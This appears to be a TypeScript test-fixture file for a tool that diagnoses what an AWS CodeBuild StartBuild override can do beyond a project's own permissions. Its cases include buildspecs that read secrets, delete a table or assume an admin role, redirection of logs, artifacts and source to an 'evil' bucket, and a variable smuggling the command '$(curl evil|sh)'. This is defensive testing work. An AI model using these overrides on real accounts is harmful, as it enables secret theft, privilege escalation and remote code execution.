/**
 * What whoever may only call `codebuild:StartBuild` can do: a build is started with something else than the project has. The failure is
 * diagnosed with it; what it alone asks for is of class `log`, and the project's own needs stay what they are.
 */
import type { EnvironmentVariable } from '#account/project.ts';
import type { RanWith } from '#account/ran-with.ts';
import type { Snapshot } from '#account/snapshot.ts';
import { ACCOUNT, REGION } from '../diagnosis/build-snapshot.ts';
import type { Attack } from './attack.ts';
import {
  artifactsIn,
  buildImage,
  cacheIn,
  FOREIGN,
  layers,
  logsTo,
  own,
  type Pair,
  parameters,
  push,
  reads,
  secret,
  session,
  sourceIn,
  uriOf,
} from './pairs.ts';
import { VARIABLES } from './world.ts';

const QUIET = 'docker push $REPOSITORY_URI:1';
type Project = Snapshot['project'];

const phases = (command: string) => `version: 0.2\nphases:\n  build:\n    commands:\n      - ${command}\n`;

function variables(...other: readonly EnvironmentVariable[]): readonly EnvironmentVariable[] {
  const names = new Set(other.map(({ name }) => name));
  return [...VARIABLES.filter(({ name }) => !names.has(name)), ...other];
}

const plain = (name: string, value: string): EnvironmentVariable => ({ name, value, type: 'PLAINTEXT' });

/** A build of the quiet project, inline in its settings, that ran with something else. */
function override(
  name: string,
  build: Attack['build'],
  log: readonly Pair[],
  more: Partial<Attack> = {},
): Attack {
  return {
    name,
    buildspec: [QUIET],
    inline: true,
    build: build ?? {},
    settings: push('backend'),
    log,
    ...more,
  };
}

const withVariables = (...other: readonly EnvironmentVariable[]): Attack['build'] => ({
  variables: variables(...other),
});

function environment(change: Partial<Project['environment']>): (project: Project) => RanWith {
  return ({ environment: present }) => ({ environment: { ...present, ...change } });
}

/** Overrides that the snapshot holds under `ranWith`, which needs the project it is laid over. */
function ran(
  name: string,
  ranWith: (project: Project) => RanWith,
  log: readonly Pair[],
  more: Partial<Attack> = {},
): Attack {
  return { ...override(name, {}, log, more), ran: ranWith };
}

export const OVERRIDES: readonly Attack[] = [
  override('nothing', {}, []),
  override(
    'a buildspec that reads a secret',
    { buildspec: phases('aws secretsmanager get-secret-value --secret-id prod/master') },
    [secret('prod/master')],
  ),
  override(
    'a buildspec that pushes elsewhere',
    { buildspec: phases(`docker push ${uriOf('payments')}:1`) },
    layers('payments'),
  ),
  override(
    'a buildspec that deletes',
    { buildspec: phases('aws dynamodb delete-table --table-name orders') },
    [],
    {
      never: [`dynamodb:DeleteTable ${own('dynamodb', 'table/orders')}`],
    },
  ),
  override(
    'a buildspec that takes another role',
    {
      buildspec: phases(
        `aws sts assume-role --role-arn arn:aws:iam::${ACCOUNT}:role/admin --role-session-name x`,
      ),
    },
    [],
    {
      privilege: [`sts:AssumeRole arn:aws:iam::${ACCOUNT}:role/admin`],
    },
  ),
  override('a buildspec of the source, another file', { buildspec: 'evil.yml' }, layers('payments'), {
    files: { 'evil.yml': phases(`docker push ${uriOf('payments')}:1`) },
    atMost: true,
  }),
  override('a buildspec in a bucket', { buildspec: 'arn:aws:s3:::evil/buildspec.yml' }, [
    `s3:GetObject arn:aws:s3:::evil/buildspec.yml`,
  ]),
  override(
    'the variable that is the address',
    withVariables(plain('REPOSITORY_URI', uriOf('payments'))),
    layers('payments'),
  ),
  override(
    'the variable that is the address, in another account',
    withVariables(plain('REPOSITORY_URI', uriOf('backend', { account: FOREIGN }))),
    layers('backend', { account: FOREIGN }),
  ),
  override(
    'the variable that is the address, with a command in it',
    withVariables(plain('REPOSITORY_URI', '$(curl evil|sh)')),
    [],
  ),
  override(
    'a secret as a variable',
    withVariables({ name: 'MASTER', value: 'prod/master', type: 'SECRETS_MANAGER' }),
    [secret('prod/master')],
  ),
  override(
    'a secret of another account as a variable',
    withVariables({
      name: 'MASTER',
      value: `arn:aws:secretsmanager:${REGION}:${FOREIGN}:secret:prod/master-AbCdEf`,
      type: 'SECRETS_MANAGER',
    }),
    [`secretsmanager:GetSecretValue arn:aws:secretsmanager:${REGION}:${FOREIGN}:secret:prod/master-AbCdEf`],
  ),
  override(
    'a parameter as a variable',
    withVariables({ name: 'DB', value: '/prod/db', type: 'PARAMETER_STORE' }),
    [parameters('/prod/db')],
  ),
  override(
    'a pattern as the name of a secret',
    withVariables({ name: 'ALL', value: '*', type: 'SECRETS_MANAGER' }),
    [secret('*')],
    { atMost: true },
  ),
  override('a variable that changes nothing', withVariables(plain('IMAGE_TAG', 'evil')), []),
  override('a debug session', { debugSession: true }, session),
  override('another commit', { sourceVersion: 'evil', resolvedSourceVersion: 'e'.repeat(40) }, []),
  ran(
    'an image of another team',
    environment({ image: `${uriOf('payments-base')}:1`, imagePullCredentialsType: 'SERVICE_ROLE' }),
    buildImage('payments-base'),
  ),
  ran(
    'an image of another account',
    environment({
      image: `${uriOf('base', { account: FOREIGN })}:1`,
      imagePullCredentialsType: 'SERVICE_ROLE',
    }),
    buildImage('base', { account: FOREIGN }),
  ),
  ran(
    'a credential for a registry',
    environment({ registryCredential: own('secretsmanager', 'secret:prod/hub-AbCdEf') }),
    [`secretsmanager:GetSecretValue ${own('secretsmanager', 'secret:prod/hub-AbCdEf')}`],
  ),
  ran('a certificate in a bucket', environment({ certificate: 'arn:aws:s3:::evil/ca.pem' }), [
    's3:GetObject arn:aws:s3:::evil/ca.pem',
  ]),
  ran('privileged mode off', environment({ privilegedMode: false }), []),
  ran(
    'a log group',
    ({ logs }) => ({ logs: { ...logs, cloudWatch: { enabled: true, groupName: '/aws/codebuild/Other' } } }),
    logsTo('/aws/codebuild/Other'),
  ),
  ran(
    'logs into a bucket',
    ({ logs }) => ({ logs: { ...logs, s3: { enabled: true, location: 'evil/logs' } } }),
    artifactsIn('evil/logs'),
  ),
  ran(
    'artifacts into a bucket',
    () => ({
      artifacts: {
        location: 'arn:aws:s3:::evil/out/app.zip',
        encryptionDisabled: false,
        bucketOwnerAccess: null,
        identifier: null,
      },
    }),
    artifactsIn('evil/out'),
    { atMost: true },
  ),
  ran(
    'a cache in a bucket',
    () => ({ cache: { type: 'S3', location: 'evil/cache' } }),
    cacheIn('evil/cache'),
  ),
  ran(
    'a source in a bucket',
    ({ source }) => ({ source: { ...source, type: 'S3', location: 'evil/src.zip' } }),
    sourceIn('evil', 'src.zip'),
    { atMost: true },
  ),
  ran(
    'a second source',
    () => ({
      secondarySources: [
        {
          type: 'CODECOMMIT',
          location: `https://git-codecommit.${REGION}.amazonaws.com/v1/repos/vault`,
          buildspec: null,
          auth: null,
          identifier: 'two',
        },
      ],
    }),
    [`codecommit:GitPull arn:aws:codecommit:${REGION}:${ACCOUNT}:vault`],
  ),
  ran(
    'a connection for the source',
    ({ source }) => ({
      source: {
        ...source,
        auth: { type: 'CODECONNECTIONS', resource: own('codeconnections', 'connection/evil') },
      },
    }),
    ['codeconnections', 'codestar-connections'].flatMap((service) =>
      ['GetConnectionToken', 'GetConnection', 'UseConnection'].map(
        (operation) => `${service}:${operation} ${own(service, 'connection/evil')}`,
      ),
    ),
    { atMost: true },
  ),
  {
    name: 'the variable that is the address, while the source pushes to it',
    buildspec: [QUIET],
    build: { variables: variables(plain('REPOSITORY_URI', uriOf('payments'))) },
    settings: push('backend'),
    log: layers('payments'),
  },
  {
    name: 'the name of the image that the source builds on',
    buildspec: ['docker pull $BASE_IMAGE'],
    build: { variables: variables(plain('BASE_IMAGE', uriOf('payments'))) },
    log: [...push('nothing').slice(0, 1), ...reads('payments')],
  },
];
